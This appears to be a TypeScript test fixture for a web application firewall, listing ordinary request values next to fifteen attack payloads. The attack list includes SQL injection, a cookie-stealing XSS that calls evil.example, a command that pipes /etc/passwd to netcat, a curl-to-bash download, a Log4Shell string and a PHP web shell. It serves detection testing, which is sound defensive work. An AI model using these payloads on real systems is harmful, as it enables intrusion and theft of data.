// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks look like that.
/** Names and values of ordinary requests, as a firewall sees them after decoding: latin1 strings, one character per byte. */
export const ORDINARY_VALUES: readonly string[] = [
  'GET',
  '/catalogue/garden-chairs/oak-folding-chair-2',
  '/api/v2/orders/2026-07-0041/items',
  '/static/js/main.8f3c21ab.js',
  'HTTP/1.1',
  'shop.example.org',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1',
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'application/json, text/plain, */*',
  'en-GB,en;q=0.9,de-CH;q=0.7,fr;q=0.5',
  'https://shop.example.org/catalogue/garden-chairs?page=3&sort=price',
  'application/x-www-form-urlencoded; charset=UTF-8',
  'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW',
  '"5d8c72a5edda8d6a:0"',
  'Tue, 21 Jul 2026 07:28:00 GMT',
  'cookie',
  '_ga=GA1.2.1184402331.1752990000; _gid=GA1.2.91823311.1784500102; consent=necessary%3Dtrue%2Cstatistics%3Dfalse; lang=en-GB; ' +
    'cart_id=5f1d7a0e-2c7c-4e0e-9a53-2f5d0b1e7c44; recently_viewed=104%2C2207%2C318%2C95; theme=dark; tz=Europe%2FStockholm; ' +
    'session_hint=c2Vzc2lvbi1oaW50LW9mLWFuLW9yZGluYXJ5LXVzZXI; last_visit=1784499120; ab_test=checkout-b; newsletter_popup=closed',
  'session_token',
  'c2Vzc2lvbi10b2tlbi1vZi1hbi1vcmRpbmFyeS11c2VyLTAwMTc',
  'eyJhbGciOiJFUzI1NiIsImtpZCI6IjdhIn0.eyJzdWIiOiJ1c2VyLTg4MTIiLCJpc3MiOiJodHRwczovL2lkLmV4YW1wbGUub3JnIiwiYXVkIjoic2hvcCIs' +
    'ImlhdCI6MTc4NDUwMDAwMCwiZXhwIjoxNzg0NTAzNjAwLCJzY29wZSI6Im9yZGVycyBwcm9maWxlIGVtYWlsIiwicm9sZXMiOlsiY3VzdG9tZXIiXSwibG9jYWxlIjoi' +
    'ZW4tR0IifQ.kP4hVtq1fZ0mUe_7sYx3wQJ2mB5nR8cT1vLd0aGz6iXoWq9EhKyUf4SbNjP3rCMtQl7DgHs2VxZe8wAkIpOu5Y',
  '_ga',
  'GA1.2.1184402331.1752990000',
  'consent',
  'necessary%3Dtrue%2Cstatistics%3Dfalse',
  'preferences',
  '{"currency":"EUR","language":"en-GB","units":"metric","columns":["name","price","rating"],"recent":[104,2207,318,95],"compact":false}',
  'theme',
  'dark',
  'cart',
  '104:1,2207:2,318:1,95:4;v=3;updated=1784553301;currency=EUR;voucher=SUMMER-2026;checksum=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  'sec-ch-ua',
  '"Not)A;Brand";v="8", "Chromium";v="138", "Google Chrome";v="138"',
  'traceparent',
  '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
  'q',
  'oak folding chair',
  'category',
  'outdoor furniture & tables',
  'price_max',
  '249.90',
  'in_stock',
  'true',
  'user_id',
  '8812',
  'email',
  'maria.lindqvist@example.com',
  'last_name',
  "O'Connor",
  'description',
  'Folding chair of solid oak with a seat of woven cord. It is 84 cm high, 52 cm wide and 60 cm deep, and 8 cm deep when folded. ' +
    'Weight: 6.4 kg; load: up to 120 kg. The wood comes from certified forests in Sm\xe5land and is treated with linseed oil only. ' +
    'Clean it with a damp cloth, oil it once a year, and keep it under a roof in winter. Assembly takes five minutes (two screws, key included). ' +
    'Spare parts can be ordered for ten years. Guarantee: 5 years on the frame, 2 years on the cord. Colours: natural, dark brown, grey. ' +
    "Customers who bought this chair also liked the table 'Varberg' and the bench 'Kalmar 3'.",
  'company',
  'Lindqvist & Sons AB',
  'phone',
  '+46 31 555 01 23',
  'newsletter',
  'on',
  'comment',
  'The chair arrived on time and is very comfortable. One leg was a little loose, but the screws in the box fixed that. ' +
    'We have had it on the terrace for three weeks now, in rain and in sun, and the oil on the wood still looks like new. ' +
    'My only wish would be a cushion in the same colour as the table, since the one that we bought elsewhere does not quite fit. ' +
    'Delivery was quick, the driver called half an hour before and carried everything up to the second floor. Thank you!',
  'answers',
  '[{"question":"How did you find us?","answer":"A friend told me about your shop, and I had seen the chairs in a magazine before."},' +
    '{"question":"What should we do better?","answer":"Show how large a folded chair is, please. The pictures are nice, but two of them have no scale."},' +
    '{"question":"May we write to you?","answer":"Yes, but not more than once a month."},{"question":"Rating","answer":5},' +
    '{"question":"Which of these do you own?","answer":["table","bench","parasol"]},{"question":"Notes","answer":null}]',
  'notes_for_delivery',
  'The bell does not work, so please knock or call. Second gate on the left after the red house, then up the stairs (12 steps, no lift). ' +
    'If nobody answers, the neighbours at number 14 take parcels until 20:00. There is a dog in the yard; it barks but it is friendly. ' +
    'Do not leave anything outside: the last parcel stood in the rain for a whole night and the box fell apart. ' +
    'On weekdays the street is closed between 7 and 9 in the morning, except for bicycles. The code of the door is changed every week, so I will send it by text.',
  'gift_message',
  'Dear Anna and Tom, we wish you many long evenings on these chairs! With love from all of us in Uppsala: Eva, Nils, Karin & little Ove. ' +
    'P.S. The cushions follow next week; they were sold out in your colour. We looked for them in three shops and in the end found a woman ' +
    'in Lund who sews them herself, from the cloth of old sails. She asks for the exact size of the seat, so please measure it when the chairs ' +
    'have come, and write to us at the usual address. Nils has already drawn a label for the box and insists that you keep it.',
  'message',
  'Hello,\nI would like to return the second chair from order 2026-07-0041, because we ordered two and need only one. ' +
    'It is still in its box and nobody has used it.\nWhen can it be collected? I am at home on Tuesday and Thursday after four, ' +
    'or all day on Saturday. Please send the refund to the card that I paid with.\n\nBest regards,\nMaria Lindqvist\nG\xf6teborg',
  'items.0.sku',
  'CHAIR-OAK-0002',
];

/** Attacks of several kinds in the shapes that scanners send. */
export const ATTACK_VALUES: readonly string[] = [
  "' OR '1'='1' -- ",
  "1 UNION SELECT username, password FROM users WHERE 'a'='a",
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=fetch(`//evil.example/${document.cookie}`)>',
  '../../../../etc/passwd',
  '; cat /etc/passwd | nc evil.example 4444',
  '$(curl -s http://evil.example/x.sh | bash)',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  'php://filter/convert.base64-encode/resource=index.php',
  'http://169.254.169.254/latest/meta-data/iam/',
  '<?php system($_GET["c"]); ?>',
  'O:8:"Evil_Obj":1:{s:4:"file";s:11:"/etc/passwd";}',
  'x\nSet-Cookie: admin=1',
  '__proto__[isAdmin]=true',
];
